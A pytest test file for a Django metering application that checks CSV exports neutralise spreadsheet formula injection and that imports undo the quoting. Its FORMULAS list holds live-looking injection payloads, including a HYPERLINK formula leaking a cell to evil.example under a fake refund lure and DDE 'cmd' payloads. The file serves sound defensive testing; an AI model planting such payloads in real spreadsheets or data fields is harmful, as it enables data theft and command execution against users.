"""CSV formula injection (CONTRACT §7, last rule): every CSV the product writes prefixes with
``'`` a text cell a spreadsheet would run as a formula (``=``, ``+``, ``-``, ``@``, tab,
carriage return), whoever wrote the text; the imports take that ``'`` off again, so an export
read back stores the same text. Numbers stay numbers (``-3.5`` is not text).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st

from metering.csv_files import ErrorsFile, spreadsheet_safe, unquote_cell, write_csv
from metering.imports import import_meters
from metering.models import Meter
from readings import services
from readings.imports import import_period_readings, import_readings
from readings.models import PeriodReading, Reading
from tests.factories import MeterFactory
from tests.readings.conftest import ACTOR, day

# Texts a tenant or a member could type into notes, a reader's name, a meter's name...
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for your refund")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+2",
    "\t=1+2",
    "\r=1+2",
    "'=already quoted by someone",
    "''@twice",
]
HARMLESS = ["plain text", "'just an apostrophe", "a = b", "1+1", "", "'", "é=été"]
NUMBERS = ["-3.5", "+12", "-0.000001", "-1e5", "-12,5"]


# --- the two functions -----------------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_one_leading_quote(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS + NUMBERS)
def test_other_text_and_numeric_text_are_unchanged(text):
    assert spreadsheet_safe(text) == text


@pytest.mark.parametrize(
    "value", [Decimal("-3.5"), -3, -0.5, Decimal("-1E+5"), None, True, dt.date(2024, 1, 1)]
)
def test_values_that_are_not_text_are_unchanged(value):
    assert spreadsheet_safe(value) is value


@pytest.mark.parametrize("text", FORMULAS + HARMLESS + NUMBERS)
def test_unquote_gives_back_the_text(text):
    assert unquote_cell(spreadsheet_safe(text)) == text


def test_unquote_takes_off_one_quote_before_a_formula_only():
    assert unquote_cell("'=1+2") == "=1+2"
    assert unquote_cell("''=1+2") == "'=1+2"
    assert unquote_cell("'plain") == "'plain"
    assert unquote_cell("'-3.5") == "-3.5"
    assert unquote_cell("'") == "'"


TRICKY = st.text(alphabet="'=+-@\t\r1.,e aé", max_size=8)


@given(TRICKY)
def test_unquote_undoes_spreadsheet_safe_for_any_text(text):
    assert unquote_cell(spreadsheet_safe(text)) == text


@given(TRICKY)
def test_a_written_cell_never_starts_a_formula(text):
    written = spreadsheet_safe(text)
    if written[:1] in ("=", "+", "-", "@", "\t", "\r"):
        # Only a number is left as it is: a sign, digits, a decimal mark, an exponent.
        assert written == text and written[0] in "+-"
        float(written.replace(",", "."))


def test_write_csv_neutralises_text_and_keeps_numbers():
    out = io.StringIO()
    write_csv(out, ("a", "b", "c"), [("=1+2", Decimal("-3.5"), "-3.5"), (None, -2, "@x")])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["a", "b", "c"],
        ["'=1+2", "-3.5", "-3.5"],
        ["", "-2", "'@x"],
    ]


def test_the_errors_file_neutralises_its_cells(tmp_path):
    errors = ErrorsFile(str(tmp_path / "errors.csv"))
    errors.open()
    errors.write(3, "validation_error", "=HYPERLINK(1)")
    errors.close()
    rows = list(csv.reader((tmp_path / "errors.csv").open(encoding="utf-8")))
    assert rows == [["line", "code", "message"], ["3", "validation_error", "'=HYPERLINK(1)"]]


# --- what the product writes and reads back ------------------------------------------------


@pytest.fixture
def readings(account):
    """A reading per dangerous text, as notes and as the reader's name, and a negative one."""
    meter = MeterFactory(account=account, serial_number="-SN-1")
    texts = FORMULAS + HARMLESS + NUMBERS
    items = [
        services.ReadingInput(
            reading_date=day(index),
            value=Decimal(1000 - index),  # decreasing: NEGATIVE consumptions
            notes=text,
            reader_name=text[:100],
        )
        for index, text in enumerate(texts)
    ]
    result = services.create_readings(meter=meter, items=items, actor=ACTOR)
    assert not result.errors, result.errors
    return meter, texts


def command_export(*args: str) -> str:
    out = io.StringIO()
    call_command("export_readings", "--account", "acme", *args, stdout=out)
    return out.getvalue()


def check_export(text: str, texts: list[str]) -> None:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(texts)
    for row, original in zip(rows, texts, strict=True):
        assert row["serial_number"] == "'-SN-1"
        assert row["notes"] == spreadsheet_safe(original)
        assert row["reader_name"] == spreadsheet_safe(original[:100])
        if row["notes"][:1] in ("=", "+", "-", "@", "\t", "\r"):
            assert original in NUMBERS  # only a number starts so
    # Numbers, negative ones included, are written as numbers.
    assert Decimal(rows[1]["value"]) == 999
    assert rows[1]["consumption"].startswith("-1.0") and Decimal(rows[1]["consumption"]) == -1
    assert rows[1]["anomaly_flags"] == "NEGATIVE"


def test_export_readings_neutralises_every_text_cell(readings):
    _, texts = readings
    check_export(command_export(), texts)


def test_the_admin_export_neutralises_every_text_cell(member, readings):
    _, texts = readings
    response = member("VIEWER").get("/admin/readings/reading/export/")
    assert response.status_code == 200
    check_export(b"".join(response.streaming_content).decode(), texts)


@pytest.mark.parametrize("set_based", [True, False], ids=["set-based", "engine"])
def test_an_export_read_back_stores_the_same_text(account, readings, tmp_path, set_based):
    meter, texts = readings
    path = tmp_path / "export.csv"
    path.write_text(command_export(), encoding="utf-8")
    before = sorted(Reading.objects.values_list("reading_date", "notes", "reader_name"))
    Reading.objects.all().delete()

    result = import_readings(account=account, path=str(path), set_based=set_based)

    assert (result.created, result.rejected) == (len(texts), 0), result.rejected_rows
    after = sorted(Reading.objects.values_list("reading_date", "notes", "reader_name"))
    # Imports strip a cell's surrounding white space (as they always did): "\t=1+2" is "=1+2".
    assert after == [(date, notes.strip(), name.strip()) for date, notes, name in before]
    assert Reading.objects.filter(notes="=1+2").count() == 3
    assert Reading.objects.get(notes__startswith="=HYPERLINK").meter == meter


def test_the_meters_import_takes_the_quote_off(account, tmp_path):
    path = tmp_path / "meters.csv"
    path.write_text(
        "name,serial_number,meter_type,notes\n"
        "'=HYPERLINK(1),'-S-1,ELECTRICITY,'+1\n"
        "'kept apostrophe,S-2,GAS,''=x\n",
        encoding="utf-8",
    )
    result = import_meters(account=account, path=str(path))
    assert (result.created, result.rejected) == (2, 0), result.rejected_rows
    assert list(
        Meter.objects.order_by("serial_number").values_list("serial_number", "name", "notes")
    ) == [
        ("-S-1", "=HYPERLINK(1)", "+1"),
        ("S-2", "'kept apostrophe", "'=x"),
    ]


def test_the_period_readings_import_takes_the_quote_off(account, tmp_path):
    MeterFactory(account=account, serial_number="=P-1")
    path = tmp_path / "periods.csv"
    path.write_text(
        "serial_number;start_date;end_date;consumption;notes\n"
        "'=P-1;2024-01-01;2024-01-31;12,5;'@bill\n",
        encoding="utf-8",
    )
    result = import_period_readings(account=account, path=str(path))
    assert (result.created, result.rejected) == (1, 0), result.rejected_rows
    period = PeriodReading.objects.get()
    assert (period.notes, period.consumption) == ("@bill", Decimal("12.5"))
